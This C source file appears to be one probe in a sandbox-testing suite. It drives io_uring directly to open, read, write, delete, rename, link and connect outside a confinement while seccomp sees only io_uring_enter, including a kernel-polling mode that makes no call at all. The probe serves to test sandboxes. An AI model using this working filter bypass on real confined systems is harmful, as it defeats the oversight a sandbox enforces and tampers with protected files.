/*
 * Lets a ring of io_uring do what a filter of system calls refuses. io-uring <operation> <target> [other]
 * Family: io-uring
 * Facts: a ring makes opens, connects and changes in the kernel without the calls of their names, so that seccomp sees only
 * io_uring_enter (man 7 io_uring; man 2 io_uring_enter). It was also the most frequent way into the kernel of its years
 * (CVE-2021-41073, CVE-2022-29582, CVE-2023-2598, CVE-2024-0582).
 * Witness: the decoy in the output; files outside that changed; the neighbour's log of contacts.
 * Cases: name | what it tries | attack | twin | marks
 *   open-read | open and read a file outside | open-read {secret} | plain-read {inside} | event=syscall
 *   open2-read | the same with the newer open | open2-read {secret} | plain-read {inside} | event=syscall
 *   write | write a file outside | write {secret} | plain-read {inside} | event=syscall
 *   unlink | delete a file outside | unlink {secret} | plain-read {inside} | event=syscall
 *   rename | rename a file outside | rename {secret} {outside}/renamed | plain-read {inside} | event=syscall
 *   link | give a file outside a second name | link {secret} {grant}/second | plain-read {inside} | event=syscall
 *   mkdir | make a folder outside | mkdir {outside}/new | plain-read {inside} | event=syscall
 *   symlink | make a link outside | symlink {outside}/new | plain-read {inside} | event=syscall
 *   setxattr | set an attribute outside | setxattr {secret} | plain-read {inside} | event=syscall
 *   truncate | shorten a file outside | truncate {secret} | plain-read {inside} | event=syscall
 *   connect | connect to a port of this machine | connect {tcp} | plain-read {inside} | event=syscall
 *   unix-connect | connect to a socket of the neighbour | unix-connect {neighbour}/stream.sock | plain-read {inside} | event=syscall
 *   polling | let a thread of the kernel make the open, with no call at all | polling {secret} | plain-read {inside} | event=syscall
 */
#include "attack.h"

#include <arpa/inet.h>
#include <linux/io_uring.h>
#include <linux/openat2.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/un.h>

#ifndef SYS_io_uring_setup
#define SYS_io_uring_setup 425
#define SYS_io_uring_enter 426
#endif

static struct io_uring_params parameters;
static int ring;
static char *submissions, *completions;
static struct io_uring_sqe *entries;

static void open_ring(unsigned flags) {
  parameters.flags = flags;
  parameters.sq_thread_idle = 2000;
  long made = syscall(SYS_io_uring_setup, 8, &parameters);
  if (made < 0) refused("io_uring_setup", errno);
  ring = (int)made;
  size_t first = parameters.sq_off.array + parameters.sq_entries * sizeof(unsigned);
  size_t second = parameters.cq_off.cqes + parameters.cq_entries * sizeof(struct io_uring_cqe);
  submissions = mmap(NULL, first, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
  completions = mmap(NULL, second, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
  entries = mmap(NULL, parameters.sq_entries * sizeof *entries, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
  if (submissions == MAP_FAILED || completions == MAP_FAILED || entries == MAP_FAILED) broken("mmap");
}

/* One operation, and what came of it. */
static int operate(const char *step, struct io_uring_sqe entry) {
  unsigned *tail = (unsigned *)(void *)(submissions + parameters.sq_off.tail);
  unsigned mask = *(unsigned *)(void *)(submissions + parameters.sq_off.ring_mask);
  unsigned *array = (unsigned *)(void *)(submissions + parameters.sq_off.array);
  unsigned *head = (unsigned *)(void *)(completions + parameters.cq_off.head);
  unsigned *end = (unsigned *)(void *)(completions + parameters.cq_off.tail);
  unsigned index = *tail & mask;
  entries[index] = entry;
  array[index] = index;
  __atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
  if (parameters.flags & IORING_SETUP_SQPOLL) {
    unsigned *state = (unsigned *)(void *)(submissions + parameters.sq_off.flags);
    if (__atomic_load_n(state, __ATOMIC_ACQUIRE) & IORING_SQ_NEED_WAKEUP) syscall(SYS_io_uring_enter, ring, 0, 0, IORING_ENTER_SQ_WAKEUP, NULL, 0);
    for (int wait = 0; wait < 200 && __atomic_load_n(end, __ATOMIC_ACQUIRE) == *head; wait++) usleep(10000);
    if (__atomic_load_n(end, __ATOMIC_ACQUIRE) == *head) refused(step, ETIMEDOUT);
  } else if (syscall(SYS_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) refused("io_uring_enter", errno);
  struct io_uring_cqe *done = (struct io_uring_cqe *)(void *)(completions + parameters.cq_off.cqes) + (*head & *(unsigned *)(void *)(completions + parameters.cq_off.ring_mask));
  int result = done->res;
  __atomic_store_n(head, *head + 1, __ATOMIC_RELEASE);
  if (result < 0) refused(step, -result);
  return result;
}

#define P(pointer) ((uint64_t)(uintptr_t)(pointer))

int main(int argc, char **argv) {
  const char *way = argument(argc, argv, 1);
  const char *target = argument(argc, argv, 2);
  const char *other = argc > 3 ? argv[3] : "";
  if (is(way, "plain-read")) reached_content((int)must("open", open(target, O_RDONLY)), "read");
  open_ring(is(way, "polling") ? IORING_SETUP_SQPOLL : 0);
  static char content[256];
  if (is(way, "open-read") || is(way, "polling")) {
    int file = operate("open", (struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = P(target), .open_flags = O_RDONLY});
    int length = operate("read", (struct io_uring_sqe){.opcode = IORING_OP_READ, .fd = file, .addr = P(content), .len = sizeof content - 1});
    content[length] = 0;
    content[strcspn(content, "\n")] = 0;
    reached(content);
  }
  if (is(way, "open2-read")) {
    struct open_how how = {.flags = O_RDONLY};
    int file = operate("open", (struct io_uring_sqe){.opcode = IORING_OP_OPENAT2, .fd = AT_FDCWD, .addr = P(target), .len = sizeof how, .off = P(&how)});
    reached_content(file, "read");
  }
  if (is(way, "write")) {
    int file = operate("open", (struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = P(target), .open_flags = O_WRONLY | O_APPEND});
    operate("write", (struct io_uring_sqe){.opcode = IORING_OP_WRITE, .fd = file, .addr = P("written\n"), .len = 8});
  } else if (is(way, "truncate")) {
    operate("open", (struct io_uring_sqe){.opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = P(target), .open_flags = O_WRONLY | O_TRUNC});
  } else if (is(way, "unlink")) operate(way, (struct io_uring_sqe){.opcode = IORING_OP_UNLINKAT, .fd = AT_FDCWD, .addr = P(target)});
  else if (is(way, "rename")) operate(way, (struct io_uring_sqe){.opcode = IORING_OP_RENAMEAT, .fd = AT_FDCWD, .addr = P(target), .len = (uint32_t)AT_FDCWD, .addr2 = P(other)});
  else if (is(way, "link")) operate(way, (struct io_uring_sqe){.opcode = 39 /* LINKAT */, .fd = AT_FDCWD, .addr = P(target), .len = (uint32_t)AT_FDCWD, .addr2 = P(other)});
  else if (is(way, "mkdir")) operate(way, (struct io_uring_sqe){.opcode = 37 /* MKDIRAT */, .fd = AT_FDCWD, .addr = P(target), .len = 0700});
  else if (is(way, "symlink")) operate(way, (struct io_uring_sqe){.opcode = 38 /* SYMLINKAT */, .fd = AT_FDCWD, .addr = P("/etc/hostname"), .addr2 = P(target)});
  else if (is(way, "setxattr")) operate(way, (struct io_uring_sqe){.opcode = 42 /* SETXATTR */, .addr = P("user.ring"), .addr2 = P("1"), .len = 1, .addr3 = P(target)});
  else if (is(way, "connect")) {
    struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(target)), .sin_addr = {htonl(INADDR_LOOPBACK)}};
    int own = (int)must("socket", socket(AF_INET, SOCK_STREAM, 0));
    operate(way, (struct io_uring_sqe){.opcode = IORING_OP_CONNECT, .fd = own, .addr = P(&address), .off = sizeof address});
  } else if (is(way, "unix-connect")) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    snprintf(address.sun_path, sizeof address.sun_path, "%s", target);
    int own = (int)must("socket", socket(AF_UNIX, SOCK_STREAM, 0));
    operate(way, (struct io_uring_sqe){.opcode = IORING_OP_CONNECT, .fd = own, .addr = P(&address), .off = sizeof address});
  } else {
    errno = EINVAL;
    broken("way");
  }
  reached(way);
}
